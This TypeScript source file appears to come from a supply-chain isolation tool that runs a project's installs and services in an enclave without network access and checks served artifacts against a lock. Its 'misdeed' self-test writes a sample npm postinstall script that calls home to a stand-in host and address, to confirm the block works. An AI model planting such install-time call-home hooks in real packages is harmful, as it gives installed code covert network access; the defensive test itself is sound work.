import { cp, mkdir, readFile, writeFile } from 'node:fs/promises';
import { basename, dirname, join, resolve } from 'node:path';
import { ecosystemOf } from '#ecosystems/list';
import {
  type Attempt,
  type Enclave,
  type ImageRoot,
  type InsideProcess,
  openEnclave,
  probeFrom,
  unpackImage,
} from '#enclave';
import { type ArtifactRow, describeIdentity, digestOf, printable, type World } from '#kernel';
import type { Service } from '#project';
import { lastWords } from '#system';
import type { Report, ReportedAttempt } from '../report.ts';
import { StepFailure, type Story } from '../story.ts';
import type { Crossed } from './crossing.ts';
import { lockedDigests } from './crossing.ts';
import type { Place } from './place.ts';
import { type Clients, findClients } from './tools.ts';

const DEPOT_PORT = 4873;
const INSTALL_TIME = 10 * 60_000;
const READY_TIME = 60_000;
/** Undeclared edges that are tried: beyond it the first ones stand for the rest. */
const EDGES = 30;
/** Folders of a project that are no input of it. */
const LEFT_OUT = new Set(['node_modules', '.git', '.sallyport', '.venv', '__pycache__']);

export interface InsideResult {
  readonly attempts: readonly ReportedAttempt[];
  readonly artifacts: NonNullable<Report['artifacts']> | undefined;
}

interface Installation {
  readonly id: string;
  readonly kind: 'npm' | 'pip' | 'image' | 'file';
  /** Lockfile relative to the project, or the image's reference, or the file's name. */
  readonly input: string;
  readonly machine: string;
  readonly row?: ArtifactRow;
}

/** Runs the project where there is no network, with the depot as the only place that has anything. */
export async function runInside(world: World, place: Place, story: Story, crossed: Crossed): Promise<InsideResult> {
  const { project } = crossed;
  const nothing: InsideResult = { attempts: [], artifacts: undefined };
  const names = new Set(project.services.map(({ name }) => name));
  const unique = (name: string): string => {
    let free = name;
    for (let n = 2; names.has(free); n++) free = `${name}-${n}`;
    names.add(free);
    return free;
  };
  const depot = unique('depot');
  const user = unique('user');
  const installations = installationsOf(crossed, unique);
  const misdeed = unique('misdeed');

  const clients = await story.step('clients', 'Namespaces and the real clients are at hand', 'enclave', async () => {
    const has = (kind: Installation['kind']): boolean => installations.some((one) => one.kind === kind);
    const value = await findClients(world, place.work, { images: has('image'), npm: true, pip: has('pip') });
    return { value, detail: value.versions };
  });
  if (clients === undefined) return nothing;

  const copy = join(place.work, 'project');
  await mkdir(copy);
  // Entry by entry: the copy lies below the folder itself, which a copy of the whole would refuse.
  for (const { name } of await world.files.list(project.folder)) {
    if (LEFT_OUT.has(name)) continue;
    await cp(join(project.folder, name), join(copy, name), {
      recursive: true,
      verbatimSymlinks: true,
      filter: (source) => !LEFT_OUT.has(basename(source)),
    });
  }
  const machineOf = (name: string): string => (name === 'outside' ? user : name);
  const flows = [
    ...[...installations.map(({ machine }) => machine), user, misdeed].map((from) => ({
      from,
      to: depot,
      port: DEPOT_PORT,
      protocol: 'tcp' as const,
    })),
    ...project.flows.flatMap(({ from, to, port, protocol }) =>
      protocol === 'sctp' ? [] : [{ from: machineOf(from), to: machineOf(to), port, protocol }],
    ),
    // What a user asks for from outside the system is declared by asking for it.
    ...project.requests.flatMap(({ from, to }) => {
      const port = project.services.find(({ name }) => name === to)?.port;
      return from === 'outside' && port !== undefined ? [{ from: user, to, port, protocol: 'tcp' as const }] : [];
    }),
  ];

  const attempts: Attempt[] = [];
  const enclave = await story.step('enclave', 'An enclave without any uplink stands', 'enclave', async () => {
    const value = await openEnclave({
      machines: [...names],
      flows: [...new Map(flows.map((flow) => [JSON.stringify(flow), flow])).values()],
      writable: [place.work, place.inside],
      needed: [place.folder, ...clients.folders],
      env: world.env,
      tools: clients,
      signal: world.signal,
      onAttempt: (attempt) => attempts.push(attempt),
    });
    const open = value.writableMounts.length === 0 ? '' : `; still writable: ${value.writableMounts.join(', ')}`;
    const families = value.ipv6 ? 'IPv4 and IPv6' : 'IPv4 (this kernel has no IPv6)';
    return { value, detail: `${names.size} machines, ${families}, every route ends in the sink${open}` };
  });
  if (enclave === undefined) return nothing;
  const inside = new Inside(world, place, story, crossed, clients, enclave, copy, `http://${depot}:${DEPOT_PORT}`);
  const deliberate = new Set<string>();
  try {
    const before = await servedSize(place);
    if (!(await inside.depot(depot))) return nothing;
    const images = new Map<string, ImageRoot>();
    // Side by side: each is in a machine of its own.
    await Promise.all(
      installations.map(async (one) => {
        if (one.kind === 'npm') return inside.npm(one);
        if (one.kind === 'pip') return inside.pip(one);
        if (one.kind === 'file') return inside.file(one);
        const image = await inside.image(one);
        if (image !== undefined) images.set(one.input, image);
      }),
    );
    await inside.services(images);
    for (const [index, request] of project.requests.entries()) {
      await inside.request(index, { ...request, from: machineOf(request.from) });
    }
    for (const key of await inside.edges()) deliberate.add(key);
    deliberate.add(misdeed);
    await inside.misdeed(misdeed);
    await enclave.attempts();
    const artifacts = await story.step(
      'digests',
      'Every artifact that was used came from the depot',
      'enclave',
      async () => {
        const value = await compareDigests(place, crossed, before);
        if (value.foreign.length > 0)
          throw new StepFailure(`The depot served what the lock does not name: ${value.foreign.join(', ')}`);
        if (value.served === 0) throw new StepFailure('The depot served nothing.');
        const rest =
          value.notAsked.length === 0
            ? ''
            : `; nobody here asked for ${value.notAsked.length} (other targets, optional)`;
        return {
          value,
          detail: `${value.served} of ${value.locked} artifacts were served${rest}`,
          bytes: value.bytes,
        };
      },
    );
    const marked = countedAttempts(attempts).map((attempt) => ({
      ...attempt,
      deliberate:
        deliberate.has(attempt.from) || deliberate.has(`${attempt.from}>${attempt.to ?? ''}:${attempt.port ?? 0}`),
    }));
    return { attempts: marked, artifacts };
  } finally {
    await enclave.close();
  }

  async function servedSize(at: Place): Promise<number> {
    const look = await world.files.look(join(at.inside, 'served.jsonl'));
    return look?.size ?? 0;
  }
}

/** The steps that happen in one enclave. */
class Inside {
  readonly #world: World;
  readonly #place: Place;
  readonly #story: Story;
  readonly #crossed: Crossed;
  readonly #clients: Clients;
  readonly #enclave: Enclave;
  readonly #copy: string;
  readonly #base: string;
  readonly #hidden: readonly string[];
  readonly #running = new Map<string, InsideProcess>();
  readonly #pythonFolders = new Map<string, string>();

  constructor(
    world: World,
    place: Place,
    story: Story,
    crossed: Crossed,
    clients: Clients,
    enclave: Enclave,
    copy: string,
    base: string,
  ) {
    this.#world = world;
    this.#place = place;
    this.#story = story;
    this.#crossed = crossed;
    this.#clients = clients;
    this.#enclave = enclave;
    this.#copy = copy;
    this.#base = base;
    // Keys of either side are nobody's business in there; the depot alone reads the inside's content.
    this.#hidden = [place.outside, place.inside, place.media];
  }

  async depot(machine: string): Promise<boolean> {
    const { inside, outside, media, work } = this.#place;
    const done = await this.#story.step('depot', 'The depot serves what was admitted', 'enclave', async () => {
      const [program = '', ...leading] = this.#world.self;
      const args = ['serve', '--listen', `0.0.0.0:${DEPOT_PORT}`, '--insecure-no-auth', '--home', inside, '--json'];
      const lines: string[] = [];
      const depot = await this.#enclave.start(machine, program, [...leading, ...args], {
        cwd: work,
        env: this.#environment({}),
        hide: [outside, media],
        onLine: (line) => lines.length < 100 && lines.push(line),
      });
      if (!(await depot.listening(DEPOT_PORT, READY_TIME))) {
        throw new StepFailure(`It did not listen: ${lines.slice(-5).join(' ')}`);
      }
      this.#running.set(machine, depot);
      return { value: true, detail: this.#base, command: `sallyport ${args.join(' ')}` };
    });
    return done === true;
  }

  async npm({ id, input, machine }: Installation): Promise<void> {
    await this.#story.step(id, `npm ci of ${input}`, 'enclave', async () => {
      const { npm = '' } = this.#clients;
      const name = basename(input);
      if (name !== 'package-lock.json' && name !== 'npm-shrinkwrap.json') {
        throw new StepFailure(`No real client for ${name} is run here.`, 'not-tested');
      }
      const folder = join(this.#copy, dirname(input));
      const before = digestOf(await readFile(join(this.#copy, input)));
      const started = await this.#enclave.run(machine, process.execPath, [npm, 'ci', '--no-fund'], {
        cwd: folder,
        env: this.#environment({
          ...(await clientEnvironment('npm', 'npm', this.#base)),
          npm_config_cache: join(this.#place.work, `${machine}-cache`),
          ...this.#noNpmConfig,
        }),
        hide: this.#hidden,
        timeout: INSTALL_TIME,
      });
      if (started.code !== 0) throw new StepFailure(`npm ended with ${started.code}: ${words(started)}`);
      if (digestOf(await readFile(join(this.#copy, input))) !== before)
        throw new StepFailure('The lockfile was changed.');
      const added = /added (\d+) packages?/.exec(started.stdout)?.[0] ?? 'done';
      return { value: true, detail: `${added}, lockfile unchanged`, digest: before, command: 'npm ci' };
    });
  }

  async pip({ id, input, machine }: Installation): Promise<void> {
    await this.#story.step(id, `pip install --require-hashes of ${input}`, 'enclave', async () => {
      const { pip } = this.#clients;
      if (pip === undefined) throw new StepFailure('pip is missing.', 'not-tested');
      const target = join(this.#place.work, `${machine}-packages`);
      const name = basename(input);
      if (!name.endsWith('.txt')) throw new StepFailure(`No real client for ${name} is run here.`, 'not-tested');
      const args = [
        ...pip.args,
        'install',
        '--require-hashes',
        '--no-cache-dir',
        '--no-compile',
        '--target',
        target,
        '-r',
        name,
      ];
      const before = digestOf(await readFile(join(this.#copy, input)));
      const ended = await this.#enclave.run(machine, pip.command, args, {
        cwd: dirname(join(this.#copy, input)),
        env: this.#environment({
          ...(await clientEnvironment('pypi', 'pip', this.#base)),
          PIP_CONFIG_FILE: '/dev/null',
          PYTHONNOUSERSITE: '1',
        }),
        hide: this.#hidden,
        timeout: INSTALL_TIME,
      });
      if (ended.code !== 0) throw new StepFailure(`pip ended with ${ended.code}: ${words(ended)}`);
      this.#pythonFolders.set(resolve(this.#copy, dirname(input)), target);
      const count = /Successfully installed (.*)/.exec(ended.stdout)?.[1]?.trim().split(/\s+/).length ?? 0;
      const command = `pip install --require-hashes -r ${name}`;
      return { value: true, detail: `${count} packages installed`, digest: before, command };
    });
  }

  image({ id, input, machine, row }: Installation): Promise<ImageRoot | undefined> {
    return this.#story.step(id, `skopeo pulls ${input}`, 'enclave', async () => {
      const { skopeo } = this.#clients;
      if (skopeo === undefined) throw new StepFailure('skopeo is missing.', 'not-tested');
      const layout = join(this.#place.work, `${machine}-layout`);
      const source = `docker://${new URL(this.#base).host}/${input}`;
      const env = this.#environment({ XDG_RUNTIME_DIR: this.#place.work });
      const args = [
        '--insecure-policy',
        'copy',
        '--preserve-digests',
        '--src-tls-verify=false',
        source,
        `oci:${layout}:image`,
      ];
      const ended = await this.#enclave.run(machine, skopeo, args, {
        cwd: this.#place.work,
        env,
        hide: this.#hidden,
        timeout: INSTALL_TIME,
      });
      if (ended.code !== 0) throw new StepFailure(`skopeo ended with ${ended.code}: ${words(ended)}`);
      const folder = join(this.#place.work, `${machine}-image`);
      const root = await unpackImage(this.#enclave, { machine, layout, folder, env, hide: this.#hidden });
      const locked = new Set(this.#crossed.lock.rows.flatMap((one) => ('digest' in one ? [one.digest] : [])));
      if (!locked.has(root.manifest)) throw new StepFailure(`Its manifest ${root.manifest} is not in the lock.`);
      const tag = row === undefined ? '' : ` (${describeIdentity(row)})`;
      return {
        value: root,
        detail: `by digest, as locked${tag}`,
        digest: root.manifest,
        command: `skopeo copy ${source} oci:…`,
      };
    });
  }

  async file({ id, input, machine, row }: Installation): Promise<void> {
    await this.#story.step(id, `A file is fetched: ${input}`, 'enclave', async () => {
      const path = input.split('/').map(encodeURIComponent).join('/');
      const url = `${this.#base}/files/${path}`;
      const answer = await this.#probe(machine, { probe: 'http', url, timeout: 60_000 });
      if (answer.status !== 200) throw new StepFailure(`${url} answered ${answer.status ?? answer.detail}.`);
      if (row !== undefined && answer.digest !== row.digest) {
        throw new StepFailure(`Expected ${row.digest}, found ${answer.digest}.`);
      }
      return { value: true, detail: 'as locked', bytes: answer.size ?? 0, digest: answer.digest ?? '' };
    });
  }

  async services(images: ReadonlyMap<string, ImageRoot>): Promise<void> {
    const done = new Set<string>();
    for (const service of inOrder(this.#crossed.project.services)) {
      const id = `service-${service.name}`;
      const title = `The service ${service.name} runs`;
      const missing = service.needs.filter((name) => !done.has(name));
      if (missing.length > 0) {
        this.#story.skip(id, title, 'enclave', `It needs ${missing.join(', ')}, which did not start.`);
        continue;
      }
      const started = await this.#story.step(id, title, 'enclave', () => this.#start(service, images));
      if (started !== undefined) done.add(service.name);
    }
  }

  async #start(service: Service, images: ReadonlyMap<string, ImageRoot>) {
    const image = service.image === undefined ? undefined : images.get(service.image);
    if (service.image !== undefined && image === undefined)
      throw new StepFailure(`Its image ${service.image} was not pulled.`);
    const line =
      image === undefined
        ? [...(service.run ?? []), ...service.arguments]
        : [
            ...(service.run ?? image.entrypoint),
            ...(service.run === undefined && service.arguments.length === 0 ? image.command : service.arguments),
          ];
    const [command, ...args] = line;
    if (command === undefined) throw new StepFailure('It names no command to run.');
    const folder = resolve(this.#copy, service.folder ?? '.');
    const python = this.#pythonFolders.get(folder);
    const env =
      image === undefined
        ? this.#environment({
            ...(python === undefined ? {} : { PYTHONPATH: python, PATH: `${join(python, 'bin')}:${this.#path}` }),
            PYTHONDONTWRITEBYTECODE: '1',
            ...(service.port === undefined ? {} : { PORT: String(service.port), HOST: '0.0.0.0' }),
            ...service.environment,
          })
        : { ...image.env, ...service.environment };
    const lines: string[] = [];
    // Looked up by env(1) inside, with the service's own PATH.
    const [program, rest] = image === undefined ? ['/usr/bin/env', [command, ...args]] : [command, args];
    const running = await this.#enclave.start(service.name, program, rest, {
      cwd: folder,
      env,
      hide: this.#hidden,
      ...(image === undefined ? {} : { root: image }),
      onLine: (line) => {
        lines.push(line);
        if (lines.length > 20) lines.shift();
      },
    });
    const started = performance.now();
    if (service.port !== undefined && !(await running.listening(service.port, READY_TIME))) {
      throw new StepFailure(
        `Port ${service.port} does not answer. Its last words: ${printable(lines.slice(-6).join(' | '))}`,
      );
    }
    this.#running.set(service.name, running);
    const ready =
      service.port === undefined
        ? 'started'
        : `answers on ${service.port} after ${Math.round(performance.now() - started)} ms`;
    return {
      value: true,
      detail: ready,
      command: line.join(' '),
      ...(image === undefined ? {} : { digest: image.manifest }),
    };
  }

  async request(
    index: number,
    request: {
      from: string;
      to: string;
      method: string;
      path: string;
      headers: Readonly<Record<string, string>>;
      body?: string;
      expect: { status: number; contains?: string };
    },
  ): Promise<void> {
    const { from, to, method, path, expect } = request;
    await this.#story.step(`request-${index + 1}`, `${method} ${path} of ${to}`, 'enclave', async () => {
      const port = this.#crossed.project.services.find(({ name }) => name === to)?.port;
      if (port === undefined) throw new StepFailure(`The service ${to} declares no port.`);
      if (!this.#running.has(to)) throw new StepFailure(`The service ${to} does not run.`, 'not-tested');
      const { headers, body } = request;
      const answer = await this.#probe(from, {
        probe: 'http',
        url: `http://${to}:${port}${path}`,
        method,
        headers,
        ...(body === undefined ? {} : { body }),
        timeout: 30_000,
      });
      const text = printable((answer.text ?? '').slice(0, 300));
      if (!answer.ok) throw new StepFailure(`No answer: ${answer.detail}`);
      if (answer.status !== expect.status)
        throw new StepFailure(`It answered ${answer.status}, expected ${expect.status}: ${text}`);
      if (expect.contains !== undefined && answer.text?.includes(expect.contains) !== true) {
        throw new StepFailure(`Its answer does not hold ${JSON.stringify(expect.contains)}: ${text}`);
      }
      return {
        value: true,
        detail: `${answer.status}, ${answer.size ?? 0} bytes`,
        bytes: answer.size ?? 0,
        digest: answer.digest ?? '',
      };
    });
  }

  /** Tries what no flow declares, between services that run. Returns which edges those were. */
  async edges(): Promise<string[]> {
    const { services, flows } = this.#crossed.project;
    const open = new Set(flows.map(({ from, to, port, protocol }) => `${from}>${to}:${port}/${protocol}`));
    const pairs = services
      .filter(({ name }) => this.#running.has(name))
      .flatMap(({ name: from }) =>
        services.flatMap(({ name: to, port }) =>
          from === to || port === undefined || !this.#running.has(to) || open.has(`${from}>${to}:${port}/tcp`)
            ? []
            : [{ from, to, port }],
        ),
      );
    const tried = pairs.slice(0, EDGES);
    if (tried.length === 0) return [];
    await this.#story.step('edges', 'Undeclared edges between services are refused', 'enclave', async () => {
      const reached: string[] = [];
      await Promise.all(
        tried.map(async ({ from, to, port }) => {
          const answer = await this.#probe(from, { probe: 'connect', host: to, port, timeout: 5000 });
          if (answer.ok) reached.push(`${from} reached ${to}:${port}`);
        }),
      );
      const seen = await this.#enclave.attempts();
      for (const { from, to, port } of tried) {
        const noticed = seen.some(
          (one) => one.kind === 'edge' && one.from === from && one.to === to && one.port === port,
        );
        if (!noticed) reached.push(`${from} to ${to}:${port} left no trace`);
      }
      if (reached.length > 0) throw new StepFailure(reached.join('; '));
      const edges = tried.map(({ from, to, port }) => `${from} to ${to}:${port}`).join(', ');
      const rest = pairs.length > tried.length ? ` (${tried.length} of ${pairs.length})` : '';
      return { value: true, detail: `${edges}${rest}: each refused and recorded` };
    });
    return tried.map(({ from, to, port }) => `${from}>${to}:${port}`);
  }

  /** A package whose install script calls home, by name and by address. */
  async misdeed(machine: string): Promise<void> {
    await this.#story.step('misdeed', 'A postinstall that calls home is blocked', 'enclave', async () => {
      const folder = join(this.#place.work, 'misdeed');
      await mkdir(join(folder, 'calls-home'), { recursive: true });
      const write = (name: string, value: unknown): Promise<void> =>
        writeFile(join(folder, name), typeof value === 'string' ? value : JSON.stringify(value));
      // A workspace: npm 9 would look for a linked folder in the registry when it is told to replace its host.
      const workspaces = ['calls-home'];
      await write('package.json', { name: 'misdeed', version: '1.0.0', private: true, workspaces });
      await write('package-lock.json', {
        name: 'misdeed',
        version: '1.0.0',
        lockfileVersion: 3,
        requires: true,
        packages: {
          '': { name: 'misdeed', version: '1.0.0', workspaces },
          'calls-home': { version: '1.0.0', hasInstallScript: true },
          'node_modules/calls-home': { resolved: 'calls-home', link: true },
        },
      });
      await write('calls-home/package.json', {
        name: 'calls-home',
        version: '1.0.0',
        scripts: { postinstall: 'node postinstall.mjs' },
      });
      await write('calls-home/postinstall.mjs', CALLS_HOME);
      const { npm = '' } = this.#clients;
      // Everything that npm 11 asks to be allowed is allowed: it is the network that must stop it.
      const ended = await this.#enclave.run(machine, process.execPath, [npm, 'ci', '--no-fund'], {
        cwd: folder,
        env: this.#environment({
          ...(await clientEnvironment('npm', 'npm', this.#base)),
          npm_config_cache: join(this.#place.work, `${machine}-cache`),
          ...this.#noNpmConfig,
          npm_config_ignore_scripts: 'false',
        }),
        hide: this.#hidden,
        timeout: 120_000,
      });
      const said = await readFile(join(folder, 'calls-home', 'outcome.json'), 'utf8').catch(() => undefined);
      if (said === undefined) {
        throw new StepFailure(`The postinstall did not run: ${words(ended)}`, 'not-tested');
      }
      const outcome = JSON.parse(said) as { reached: string[]; stopped: string[] };
      if (outcome.reached.length > 0) throw new StepFailure(`It reached ${outcome.reached.join(', ')}.`);
      const seen = (await this.#enclave.attempts()).filter(({ from, kind }) => from === machine && kind === 'call');
      const named = seen.find(({ serverName }) => serverName === 'telemetry.example.test');
      const bare = seen.find(({ address }) => address === '203.0.113.7');
      if (named === undefined || bare === undefined) throw new StepFailure('Its calls left no trace.');
      const detail = `stopped: ${outcome.stopped.join(', ')}; the sink saw ${named.serverName}:${named.port} and ${bare.address}:${bare.port}`;
      return { value: true, detail, command: 'npm ci' };
    });
  }

  #probe(machine: string, probe: Parameters<typeof probeFrom>[2]) {
    const options = { cwd: this.#place.work, env: this.#environment({}), hide: this.#hidden };
    return probeFrom(this.#enclave, machine, probe, options);
  }

  /** Two files that are not there: npm refuses one name for both. */
  get #noNpmConfig(): Record<string, string> {
    const { work } = this.#place;
    return {
      npm_config_userconfig: join(work, 'no-user-npmrc'),
      npm_config_globalconfig: join(work, 'no-global-npmrc'),
    };
  }

  get #path(): string {
    return `${this.#clients.bin}:/usr/local/bin:/usr/bin:/bin`;
  }

  #environment(also: Readonly<Record<string, string>>): Record<string, string> {
    return { PATH: this.#path, LANG: 'C.UTF-8', CI: 'true', ...also };
  }
}

/** By name over TLS, and by bare address: each is tried, and what came back is written down. */
const CALLS_HOME = `import { writeFileSync } from 'node:fs';
import { connect } from 'node:net';
const outcome = { reached: [], stopped: [] };
const settle = (what, ok) => (ok ? outcome.reached : outcome.stopped).push(what);
await fetch('https://telemetry.example.test/installed', { signal: AbortSignal.timeout(5000) })
  .then(() => settle('https://telemetry.example.test', true), () => settle('https://telemetry.example.test', false));
await new Promise((resolve) => {
  const socket = connect({ host: '203.0.113.7', port: 8443, timeout: 5000 });
  let answered = false;
  socket.on('connect', () => socket.write('hello'));
  socket.on('data', () => (answered = true));
  socket.on('timeout', () => socket.destroy());
  socket.on('error', () => undefined);
  socket.on('close', () => resolve(settle('203.0.113.7:8443', answered)));
});
writeFileSync('outcome.json', JSON.stringify(outcome));
`;

/** The same attempt again is one attempt with a count: a service that tries once a second would fill the report. */
function countedAttempts(attempts: readonly Attempt[]): (Attempt & { count: number })[] {
  const counted = new Map<string, Attempt & { count: number }>();
  for (const attempt of attempts) {
    const { from, kind, name, to, address, port, protocol, serverName, request } = attempt;
    const key = JSON.stringify([from, kind, name, to, address, port, protocol, serverName, request]);
    const first = counted.get(key);
    counted.set(key, first === undefined ? { ...attempt, count: 1 } : { ...first, count: first.count + 1 });
  }
  return [...counted.values()];
}

/** What is installed: inputs with a real client, each in a machine of its own, so that an attempt names its step. */
function installationsOf(crossed: Crossed, unique: (name: string) => string): Installation[] {
  const list: Installation[] = [];
  const count = { npm: 0, pip: 0, image: 0, file: 0 };
  const add = (kind: Installation['kind'], input: string, row?: ArtifactRow): void => {
    count[kind] += 1;
    const id = `${kind}-${count[kind]}`;
    list.push({ id, kind, input, machine: unique(`install-${id}`), ...(row === undefined ? {} : { row }) });
  };
  for (const { ecosystem, value } of crossed.project.inputs) {
    if (typeof value !== 'string') continue;
    if (ecosystem === 'npm') add('npm', value);
    if (ecosystem === 'pypi') add('pip', value);
    if (ecosystem === 'oci') add('image', value);
  }
  const files = crossed.lock.rows.filter(
    (row): row is ArtifactRow => row.row === 'artifact' && row.ecosystem === 'files',
  );
  // A few stand for all: each is one more machine, and the digest of every file was checked when it was admitted.
  for (const row of files.slice(0, 5)) add('file', row.name === '' ? row.file : row.name, row);
  return list;
}

/** What `client-config` would print for this client. */
async function clientEnvironment(
  ecosystem: string,
  client: string,
  base: string,
): Promise<Readonly<Record<string, string>>> {
  const half = await ecosystemOf(ecosystem)?.inside();
  return half?.clients.find((one) => one.client === client)?.environment(base) ?? {};
}

/** Services with what they need before them. */
function inOrder(services: readonly Service[]): Service[] {
  const byName = new Map(services.map((service) => [service.name, service]));
  const order: Service[] = [];
  const visit = (service: Service): void => {
    if (order.includes(service)) return;
    for (const name of service.needs) {
      const needed = byName.get(name);
      if (needed !== undefined) visit(needed);
    }
    order.push(service);
  };
  for (const service of services) visit(service);
  return order;
}

async function compareDigests(
  place: Place,
  crossed: Crossed,
  before: number,
): Promise<NonNullable<Report['artifacts']>> {
  // The depot writes what it served at most 100 ms late.
  await new Promise((resolve) => setTimeout(resolve, 250));
  const bytes = await readFile(join(place.inside, 'served.jsonl'));
  // Put aside under a number meanwhile: then all of the new file is of this run.
  const text = bytes.subarray(bytes.length >= before ? before : 0).toString('utf8');
  const served = new Map<string, number>();
  for (const line of text.split('\n')) {
    if (line === '') continue;
    const { digest, sent } = JSON.parse(line) as { digest: string; sent: number };
    served.set(digest, (served.get(digest) ?? 0) + sent);
  }
  const locked = lockedDigests(crossed.lock);
  // Documents are what answers are made from; only artifacts go out as they are.
  const artifacts = new Set<string>();
  for (const row of crossed.lock.rows) if (row.row === 'artifact') artifacts.add(row.digest);
  const notAsked = crossed.lock.rows.flatMap((row) =>
    row.row === 'artifact' && !served.has(row.digest)
      ? [
          {
            artifact: printable(describeIdentity(row)),
            digest: row.digest,
            targets: row.targets === 'any' ? 'any' : row.targets.join(' '),
          },
        ]
      : [],
  );
  return {
    locked: artifacts.size,
    served: [...served.keys()].filter((digest) => artifacts.has(digest)).length,
    bytes: [...served.values()].reduce((sum, size) => sum + size, 0),
    foreign: [...served.keys()].filter((digest) => !locked.has(digest)),
    notAsked,
  };
}

/** The last lines of a program, on one line and fit for a terminal. */
function words(ended: Parameters<typeof lastWords>[0]): string {
  return lastWords(ended, 8)
    .split('\n')
    .map((line) => printable(line.trim()))
    .join(' | ');
}
